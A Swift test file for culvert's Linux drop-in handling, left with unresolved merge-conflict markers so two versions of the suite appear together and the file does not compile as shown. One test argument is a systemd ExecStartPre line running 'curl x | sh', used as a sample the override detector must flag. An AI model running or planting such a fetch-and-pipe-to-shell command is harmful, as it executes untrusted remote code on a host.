import Model
import Testing

@testable import Drivers

<<<<<<< ours
/// The files that keep other programs off culvert's interfaces.
@Suite struct LinuxDropInTests {
  private func files(
    _ observation: Observation, ownership: Ownership = .init(), _ change: (inout LinuxFacts) -> Void
  ) throws -> [HostPath: String] {
    let desired = try Sample.desired(
      Sample.realserverIntent(), on: observation.with(change), ownership: ownership)
    return desired.boot.files.filter { LinuxDropIns.allPaths.contains($0.key) }.compactMapValues { file in
      if case .regular(let content, .plain) = file { String(decoding: content, as: UTF8.self) } else { nil }
    }
  }

  private static let head = "# Written by culvert; an edit by hand is drift, and 'culvert up' undoes it.\n"

  @Test func `a host without such programs gets none`() throws {
    #expect(try files(Sample.realserver()) { _ in } == [:])
  }

  @Test func `where systemd-sysctl is, what culvert sets of interfaces has explicit keys`() throws {
    let found = try files(Sample.realserver()) { $0.tools.insert("systemd-sysctl") }
    #expect(
      found == [
        "/etc/sysctl.d/99-zz-culvert.conf": Self.head
          + "# Explicit keys: patterns such as net.ipv4.conf.*.rp_filter leave these alone (sysctl.d(5)).\n"
          + "-net/ipv4/conf/eth0/arp_announce = 2\n-net/ipv4/conf/eth0/arp_ignore = 1\n"
          + "-net/ipv4/conf/lvs-lb1/rp_filter = 2\n-net/ipv4/conf/tun-backup/rp_filter = 2\n"
      ])
  }

  @Test func `a setting that the host has by itself is not culvert's to keep`() throws {
    var observation = try Sample.realserver()
    observation.live.settings["net/ipv4/conf/eth0/arp_ignore"] = "2"
    let found = try files(observation) { $0.tools.insert("systemd-sysctl") }
    #expect(found.values.first?.contains("arp_ignore") == false)
  }

  @Test func `systemd-networkd and NetworkManager are told the names of the tunnels, and of nothing else`() throws {
    let found = try files(Sample.realserver()) { $0.managers.present = [.networkd, .networkManager] }
    #expect(
      found == [
        "/etc/systemd/network/00-culvert.network": Self.head
          + "[Match]\nName=lvs-lb1 tun-backup\n\n[Link]\nUnmanaged=yes\n",
        "/etc/NetworkManager/conf.d/99-culvert.conf": Self.head
          + "[keyfile]\nunmanaged-devices+=interface-name:lvs-lb1;interface-name:tun-backup\n",
      ])
  }

  @Test func `a drop-in stays while its program is stopped`() throws {
    let found = try files(Sample.realserver(), ownership: Ownership(files: [LinuxDropIns.networkd])) { _ in }
    #expect(Array(found.keys) == [LinuxDropIns.networkd])
  }

  @Test func `each drop-in is a file that the probe looks at`() {
    let probed = LinuxDriver().probeArguments(for: Sample.emptyIntent)
    #expect(LinuxDropIns.allPaths.allSatisfy { probed.contains("file:\($0)") })
||||||| base
=======
/// Files that change what systemd makes of culvert's unit.
@Suite struct LinuxDropInTests {
  private func findings(_ lines: String...) -> [Finding] {
    let section = ProbeOutput.Section(name: "drop-ins", status: 0, text: lines.joined(separator: "\n"))
    return LinuxDropIns.findings(LinuxDropIns.parse(ProbeOutput(sections: [section])))
  }

  @Test(arguments: [
    "/etc/systemd/system/culvert.service.d/x.conf ExecStart=/bin/true",
    "/run/systemd/system/culvert.service.d/50-x.conf ExecStartPre=-/bin/sh -c 'curl x | sh'",
    "/usr/lib/systemd/system/service.d/x.conf User=nobody",
    "/etc/systemd/system/culvert.service.d/x.conf ConditionPathExists=!/etc/culvert",
    "/etc/systemd/system/culvert.service.d/x.conf PrivateNetwork=yes",
    "/etc/systemd/system/culvert.service.d/x.conf EnvironmentFile=/home/alice/env",
    "/etc/systemd/system.control/culvert.service Description=another unit",
  ]) func `a setting that changes what the boot runs is a finding`(_ line: String) throws {
    let found = findings(line)
    #expect(found.map(\.id) == [.unitOverridden])
    #expect(found[0].what == line.prefix { $0 != " " })
    #expect(found[0].id.canBeForced)
  }

  @Test(arguments: [
    "/usr/lib/systemd/system/service.d/10-timeout-abort.conf TimeoutStopFailureMode=abort",
    "/etc/systemd/system/culvert.service.d/x.conf TimeoutStartSec=30",
    "/etc/systemd/system/culvert.service.d/x.conf Description=mine",
    "/etc/systemd/system/culvert.service.d/x.conf After=firewalld.service", "x",
  ]) func `what is its owner's matter is none`(_ line: String) { #expect(findings(line).isEmpty) }

  @Test func `a file is one finding, and only a unit of systemd's has any`() throws {
    let lines = ["/a/x.conf ExecStart=", "/a/x.conf ExecStart=/bin/true", "/a/y.conf User=x"]
    #expect(findings(lines[0], lines[1], lines[2]).map(\.what) == ["/a/x.conf", "/a/y.conf"])
    var observation = try Sample.realserver()
    var facts = observation.linux
    facts.dropIns = [.init(file: "/a/x.conf", line: "User=x")]
    for (system, count) in [(LinuxFacts.InitSystem.systemd, 1), (.sysv, 0), (.openrc, 0)] {
      facts.initSystem = system
      observation.facts = .linux(facts)
      let found = LinuxDriver().findings(for: Sample.realserverIntent(), observation, ownership: .init())
      #expect(found.count { $0.id == .unitOverridden } == count, "\(system)")
    }
>>>>>>> theirs
  }
}
